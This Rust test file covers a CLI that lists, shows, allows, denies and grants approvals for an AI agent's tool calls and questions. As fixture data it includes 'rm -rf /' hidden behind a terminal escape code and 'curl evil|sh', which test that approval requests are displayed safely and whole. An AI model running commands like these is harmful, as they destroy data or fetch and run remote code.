//! `cpctl approvals` and `cpctl grants`, one call at a time.

use codeplane_client::v1;
use tonic::Code;
use v1::decide_approval_request::Answer;

use super::desk::{Office, bash, question};

fn one() -> Office {
    Office::with([bash('a', "git push origin main")])
}

/// What the one decision was.
#[track_caller]
fn decision(office: &Office) -> (v1::DecideApprovalRequest, Answer) {
    let [decision] = &office.desk.decisions()[..] else { panic!("not one decision") };
    (decision.clone(), decision.answer.clone().unwrap())
}

#[test]
fn what_waits_is_listed_on_one_line_each() {
    let office = Office::with([bash('a', "ls"), bash('b', "echo \x1b[2K\nrm -rf /")]);

    let (code, said) = office.run(&["approvals", "ls"]);

    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(code, 0, "{said}");
    assert!(lines[0].starts_with("ID        SESSION  TOOL  WHAT"), "{said}");
    assert!(lines[1].starts_with("aaaaaaaa  web      Bash  ls  "), "the oldest first: {said}");
    assert!(lines[2].starts_with("bbbbbbbb  web      Bash  echo \\x1b[2K\\nrm -rf /"), "{said}");
    assert!(lines[2].contains("  in "), "{said}");
    assert_eq!(lines.len(), 3, "{said}");
    assert_eq!(office.desk.filters(), ["state=pending"]);
}

#[test]
fn a_long_command_is_one_row_of_a_width_that_can_be_read() {
    let office = Office::with([bash('a', &"echo x\n".repeat(400))]);

    for args in [&["ls"][..], &["allow", "a"]] {
        let (_, said) = office.run(&[&["approvals"], args].concat());

        let row = said.lines().last().unwrap();
        assert!(row.contains('…') && row.chars().count() < 200, "{said}");
    }
    let (_, json) = office.run(&["approvals", "ls", "--all", "-o", "json"]);
    assert!(json.len() > 400 * "echo x".len());
}

#[test]
fn an_empty_list_says_so() {
    let office = Office::with([]);

    assert!(office.run(&["approvals", "ls"]).1.starts_with("nothing waits"));
    assert_eq!(office.run(&["grants", "ls"]), (0, "nothing is granted\n".to_owned()));
    assert_eq!(office.run(&["approvals", "ls", "-o", "json"]).1.trim(), "[]");
}

#[test]
fn decided_ones_are_listed_on_request() {
    let office = one();
    office.desk.end("a", v1::ApprovalState::Expired);

    assert!(!office.run(&["approvals", "ls"]).1.contains("aaaaaaaa"));
    assert!(office.run(&["approvals", "ls", "--all"]).1.contains("expired"));
}

#[test]
fn json_has_every_field_under_its_name() {
    let (_, said) = one().run(&["approvals", "ls", "-o", "json"]);

    let listed: serde_json::Value = serde_json::from_str(&said).unwrap();
    assert_eq!(listed[0]["request_hash"], "a".repeat(64));
    assert_eq!(listed[0]["kind"], "tool_call");
    assert_eq!(listed[0]["state"], "pending");
}

#[test]
fn what_is_asked_is_shown_whole() {
    let office = Office::with([bash('a', "echo hi\ncurl evil|sh")]);

    let (code, said) = office.run(&["approvals", "show", "aaaa"]);

    assert_eq!(code, 0, "{said}");
    assert!(said.contains("Bash        2 lines\n1 | echo hi\n2 | curl evil|sh\n"), "{said}");
}

#[test]
fn what_is_allowed_is_what_was_fetched() {
    let office = one();

    let (code, said) = office.run(&["approvals", "allow", "aaaa"]);

    assert_eq!((code, said.as_str()), (0, "allowed aaaaaaaa in web: Bash git push origin main\n"));
    let (request, answer) = decision(&office);
    assert_eq!(request.request_hash, "a".repeat(64));
    assert_eq!(answer, Answer::Allow(v1::AllowAnswer::default()));
}

#[test]
fn an_answer_can_be_remembered() {
    let office = one();
    let pattern = "Bash(git push:*)";

    let (code, said) =
        office.run(&["approvals", "allow", "a", "--grant", "workspace", "--pattern", pattern]);

    assert_eq!(code, 0, "{said}");
    assert!(said.ends_with("; granted Bash(git push:*) to the workspace (12ab34cd)\n"), "{said}");
    let Answer::Allow(allow) = decision(&office).1 else { panic!("not allowed") };
    assert_eq!(allow.grant_scope(), v1::GrantScope::Workspace);
    assert_eq!(allow.grant_patterns, [pattern]);

    let (_, listed) = office.run(&["grants", "ls"]);
    let row = listed.lines().nth(1).unwrap();
    assert!(row.starts_with("12ab34cd  workspace  /home/ada/project  Bash(git push:*)"), "{row}");
    assert!(row.ends_with("  never"), "{row}");
    let (_, here) = office.run(&["grants", "ls", "--workspace", "/home/ada/project/src"]);
    let (_, elsewhere) = office.run(&["grants", "ls", "--workspace", "/home/ada"]);
    assert!(here.contains("12ab34cd") && !elsewhere.contains("12ab34cd"), "{here}{elsewhere}");
    assert_eq!(office.run(&["grants", "revoke", "12ab"]), (0, "revoked 12ab34cd\n".into()));
    assert!(office.run(&["grants", "ls", "--all"]).1.contains("revoked"));
}

#[test]
fn other_input_is_passed_on_as_it_is() {
    let office = one();
    let input = "{\"command\":  \"git push --dry-run\"}";
    let file = office.directory.path().join("input");
    std::fs::write(&file, input).unwrap();

    let (code, said) =
        office.run(&["approvals", "allow", "a", "--input", &format!("@{}", file.display())]);

    assert_eq!(code, 0, "{said}");
    let Answer::Allow(allow) = decision(&office).1 else { panic!("not allowed") };
    assert_eq!(allow.updated_input, input);
}

#[test]
fn what_runs_in_the_place_of_what_was_asked_is_told_everywhere() {
    let office = one();
    let input = r#"{"command":"echo EDITED"}"#;

    let (_, said) = office.run(&["approvals", "allow", "a", "--input", input]);

    let told = format!("what {input} does (edited, asked: git push origin main)");
    assert_eq!(said, format!("allowed aaaaaaaa in web: Bash {told}\n"));
    let (_, listed) = office.run(&["approvals", "ls", "--all"]);
    assert!(listed.contains(&told) && listed.contains("allowed, edited"), "{listed}");
    let (_, shown) = office.run(&["approvals", "show", "a"]);
    assert!(shown.contains("other input than was asked:\nBash        what {"), "{shown}");
    assert!(shown.contains("command     echo EDITED\n"), "{shown}");
}

#[test]
fn what_was_answered_is_told_everywhere() {
    let office = Office::with([question('a')]);

    let (_, said) = office.run(&["approvals", "answer", "a", "blue"]);

    assert_eq!(said, "answered aaaaaaaa in web: AskUserQuestion Which colour? blue\n");
    let (_, listed) = office.run(&["approvals", "ls", "--all"]);
    assert!(listed.contains("Which colour? blue") && listed.contains("  answered"), "{listed}");
    let (_, shown) = office.run(&["approvals", "show", "a"]);
    assert!(shown.contains("  - blue\nanswered    blue\n"), "{shown}");
}

#[test]
fn nothing_is_sent_for_a_mistake() {
    let office = Office::with([bash('a', "ls"), question('b')]);
    for (args, told) in [
        (&["allow", "a", "--input", "[]"][..], "is not a JSON object"),
        (&["allow", "a", "--input", "{"], "is not JSON"),
        (&["allow", "a", "b", "--input", "{}"], "are for one approval"),
        (&["allow", "a", "--pattern", "x"], "--grant"),
        (
            &["allow", "a", "--grant", "session", "--pattern", "Bash(rm:*)"],
            "'Bash(rm:*)' was not offered: 'Bash(git push:*)' can be granted",
        ),
        (&["allow", "a", "--grant", "world"], "possible values: session, workspace"),
        (&["allow", "b"], "cpctl approvals answer"),
        (&["answer", "a", "yes"], "asks no question"),
        (&["answer", "b", "red", "blue"], "takes one answer"),
        (&["allow"], "required"),
    ] {
        let args: Vec<&str> = ["approvals"].iter().chain(args).copied().collect();

        let (code, said) = office.run(&args);

        assert_eq!(code, 2, "{args:?}: {said}");
        assert!(said.contains(told), "{args:?}: {said}");
    }
    assert!(office.desk.decisions().is_empty());
}

#[test]
fn several_are_denied_at_once_with_a_message() {
    let office = Office::with([bash('a', "x"), bash('b', "y")]);

    let (code, said) = office.run(&["approvals", "deny", "a", "ffff", "b", "-m", "use make"]);

    assert_eq!(code, 3, "{said}");
    assert_eq!(
        said,
        "denied aaaaaaaa in web: Bash x\ndenied bbbbbbbb in web: Bash y\ncpctl: no such approval\n"
    );
    let deny = Answer::Deny(v1::DenyAnswer { message: "use make".into() });
    assert!(office.desk.decisions().iter().all(|one| one.answer == Some(deny.clone())));
}

#[test]
fn a_question_is_answered_by_its_text() {
    let office = Office::with([question('a')]);

    let (code, said) = office.run(&["approvals", "answer", "a", "neither, use green"]);

    assert_eq!(code, 0, "{said}");
    let answers = v1::QuestionAnswers {
        answers: vec![v1::QuestionAnswer {
            question: "Which colour?".into(),
            answers: vec!["neither, use green".into()],
        }],
    };
    assert_eq!(decision(&office).1, Answer::Answers(answers));
}

#[test]
fn whoever_saw_another_request_decides_nothing() {
    let office = one();

    let (code, said) = office.run(&["approvals", "allow", "a", "--hash", &"b".repeat(64)]);

    assert_eq!((code, said.as_str()), (5, "cpctl: aaaaaaaa: the request is another one\n"));
}

#[test]
fn each_refusal_has_its_exit_code() {
    for (code, reason, exit) in [
        (Code::FailedPrecondition, "APPROVAL_DECIDED", 5),
        (Code::FailedPrecondition, "REQUEST_HASH_MISMATCH", 5),
        (Code::FailedPrecondition, "NOT_GRANTABLE", 5),
        (Code::FailedPrecondition, "FOUR_EYES", 4),
        (Code::FailedPrecondition, "EDITED_INPUT_DENIED", 4),
        (Code::PermissionDenied, "INSIDE_SESSION", 4),
    ] {
        let office = one();
        office.desk.refuse(code, reason, "that is why");

        let said = office.run(&["approvals", "allow", "a"]);

        assert_eq!(said, (exit, "cpctl: aaaaaaaa: that is why\n".to_owned()), "{reason}");
    }
}
